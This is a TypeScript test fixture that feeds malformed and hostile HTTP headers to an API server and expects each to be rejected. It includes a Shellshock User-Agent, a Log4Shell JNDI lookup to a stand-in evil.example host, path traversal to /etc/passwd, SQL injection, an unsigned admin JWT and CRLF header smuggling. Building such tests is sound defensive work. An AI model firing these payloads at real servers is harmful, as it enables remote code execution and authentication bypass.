/** Header fields: broken ones, many, credentials, cookies, ids. */
import { canary, type Hostile } from './hostile.ts'
import { get } from './requests.ts'

const broken: readonly (readonly [string, string])[] = [
  ['a folded line', 'X-A: b\r\n c\r\n'],
  ['a space before the colon', 'X-A : b\r\n'],
  ['no name', ': b\r\n'],
  ['no colon', 'XA\r\n'],
  ['a name in UTF-8', 'X-\xc3\xa9: b\r\n'],
  ['a name in brackets', 'X[a]: b\r\n'],
]
const control: readonly (readonly [string, string])[] = [
  ['NUL', 'X-A: a\0b\r\n'],
  ['CR', 'X-A: a\rb\r\n'],
  ['a bell', 'X-A: a\x07b\r\n'],
  ['an escape', 'User-Agent: \x1b[2J\r\n'],
]

/** What is no credential. */
const authorizations = [
  '',
  'Bearer',
  'Bearer ',
  'Bearer  ',
  `Bearer ${canary}`,
  `bearer ${canary}`,
  `Basic ${canary}`,
  'Basic !!!',
  `Digest username="${canary}"`,
  'Negotiate YII=',
  'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.',
  'Bearer eyJhbGciOiJIUzI1NiJ9.e30.AAAA',
  'Bearer ..',
  'Bearer {}.{}.{}',
  'Bearer caly_live_',
  `Bearer caly_live_${'0'.repeat(22)}_${'0'.repeat(43)}`,
  `Bearer ${'a'.repeat(10_000)}`,
  'Bearer a, Bearer b',
  "Bearer ' or 1=1--",
  'Bearer \xff\xfe',
]

const cookies = [
  `session=${canary}`,
  '=',
  ';;;;',
  `a=${'b'.repeat(4000)}`,
  '__proto__=1; constructor=2',
  '__Host-a=%00',
  `${'a=b; '.repeat(1000)}`,
]

/** Other things that clients choose. */
const odd = [
  `X-Request-Id: ${canary} ${canary}`,
  `X-Request-Id: <${canary}>`,
  'X-Request-Id: ',
  `X-Request-Id: ${'a'.repeat(200)}`,
  `traceparent: ${canary}`,
  'traceparent: 00-00000000000000000000000000000000-0000000000000000-01',
  `traceparent: ff-${'a'.repeat(32)}-${'b'.repeat(16)}-01`,
  `tracestate: ${'a=b,'.repeat(100)}`,
  `baggage: ${canary}=1`,
  // The one field of a client's that the log shows, redacted: no canary in it.
  'User-Agent: () { :; }; echo vulnerable',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  'User-Agent: ${jndi:ldap://evil.example/a}',
  'Accept: */*;q=banana',
  'Accept-Language: ../../etc/passwd',
  'Accept-Encoding: gzip;q=0, *;q=0',
  `Origin: https://${canary}.example`,
  'Origin: null',
  `Referer: javascript:${canary}`,
  'Range: bytes=0-0,1-1,2-2',
  'If-Match: *',
  'If-None-Match: "',
  'If-Modified-Since: yesterday',
  'Content_Length: 5',
  'Proxy: http://evil.example',
  'Max-Forwards: 0',
  'Connection: X-Request-Id, Host',
  'Keep-Alive: timeout=99999999',
  'TE: trailers, deflate;q=0.5',
  'X-A: \xe9\xff',
  `X-A: ${'a'.repeat(8000)}`,
  `X-API-Key: ${canary}`,
  `X-API-Key: ${canary}\r\nAuthorization: Bearer ${canary}`,
  'Idempotency-Key: \t',
]

/** Fields of requests. */
export const headerFields: readonly Hostile[] = [
  ...broken.map(([what, field]) => ({
    what: `a header with ${what}`,
    bytes: get('/api', field),
    is: { row: 'a header that is none' },
  })),
  ...control.map(([what, field]) => ({
    what: `a header with ${what}`,
    bytes: get('/api', field),
    is: { row: 'a control character in a header' },
  })),
  {
    what: 'a header first that begins with a space',
    bytes: get('/api').replace('Host', ' Host'),
    is: { row: 'a header that is none' },
  },
  {
    what: 'DEL in a header',
    bytes: get('/nothing', 'X-A: a\x7fb\r\n'),
    is: { bun: 'Caly 404', deno: '400' },
  },
  {
    what: 'a line feed in a header',
    bytes: get('/api', 'X-A: a\nX-B: c\r\n'),
    is: { row: 'a control character in a header' },
  },
  { what: '190 headers', bytes: get('/nothing', 'X-A: b\r\n'.repeat(190)), is: 'Caly 404' },
  {
    what: '2000 headers',
    bytes: get('/nothing', 'X-A: b\r\n'.repeat(2000)),
    is: { row: 'more than 198 headers' },
  },
  {
    what: 'a header above 16 KiB',
    bytes: get('/nothing', `X-A: ${'a'.repeat(17_000)}\r\n`),
    is: { row: 'target and headers above 16 KiB' },
  },
  {
    what: 'a header of a megabyte',
    bytes: get('/nothing', `X-A: ${'a'.repeat(1_000_000)}\r\n`),
    is: { row: 'target and headers above 16 KiB' },
  },
  ...authorizations.map((value) => ({
    what: `the authorization ${JSON.stringify(value.slice(0, 50))}`,
    bytes: get('/api/calls', `Authorization: ${value}\r\n`),
    is: 'Caly 401',
  })),
  ...cookies.map((value) => ({
    what: `the cookie ${value.slice(0, 40)}`,
    bytes: get('/api/calls', `Cookie: ${value}\r\n`),
    is: 'Caly 401',
  })),
  ...odd.map((field) => ({
    what: `the field ${JSON.stringify(field.slice(0, 60))}`,
    bytes: get('/api/calls', `${field}\r\n`),
    is: 'Caly 401',
  })),
]
